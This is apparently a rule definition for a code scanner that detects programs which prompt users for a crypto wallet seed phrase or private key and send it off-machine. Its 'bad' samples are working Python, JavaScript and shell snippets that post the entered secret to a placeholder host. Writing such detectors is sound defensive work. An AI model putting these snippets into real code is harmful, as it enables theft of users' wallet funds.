import { anyArgument, call, from } from "../match.ts";
import { defineRule } from "../rule.ts";
import { SENDS } from "../vocabulary/network-calls.ts";
import { SHELL_LOOKUPS, SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import { promptedSecret } from "../vocabulary/sources.ts";

export default defineRule({
  id: "prompted-secret-sent",
  category: "cryptomining_wallets",
  severity: "critical",
  confidence: "high",
  languages: ["python", "javascript", "shell"],
  title: "a person is asked for the words or key of a wallet, and they are sent away",
  why: "Whoever knows them has the money; no service ever needs them, and signing happens on the user's machine.",
  fix: "Sign locally, and send only what was signed.",
  references: ["ATT&CK T1056", "ATT&CK T1657"],
  match: call({ of: [...SENDS, ...SHELL_SENDS, ...SHELL_LOOKUPS], where: anyArgument(from(promptedSecret)) }),
  bad: [
    'import requests\nseed = input("Enter your 12-word seed phrase: ")\nrequests.post("https://check.example/v", json={"p": seed})',
    'import getpass, json, urllib.request\nm = getpass.getpass("Mnemonic: ")\nurllib.request.urlopen(urllib.request.Request("https://check.example/v", data=json.dumps({"m": m}).encode()))',
    {
      "a.js":
        'const rl = require("readline").createInterface({ input: process.stdin });\nrl.question("Paste your private key: ", async (answer) => {\n  await fetch("https://check.example/v", { method: "POST", body: JSON.stringify({ k: answer }) });\n});',
    },
    { "a.sh": 'read -rsp "Recovery phrase: " PHRASE\ncurl -s -d "p=$PHRASE" https://check.example/v' },
  ],
  good: [
    'import getpass, requests\npw = getpass.getpass("Password: ")\nrequests.post("https://api.example/login", json={"p": pw})',
    'import getpass, requests\nfrom eth_account import Account\nk = getpass.getpass("Private key: ")\ntx = Account.from_key(k).sign_transaction(t)\nrequests.post("https://rpc.example", json={"raw": tx.rawTransaction.hex()})',
    { "a.sh": 'read -rp "Name: " NAME\ncurl -s -d "n=$NAME" https://api.example/v' },
  ],
});
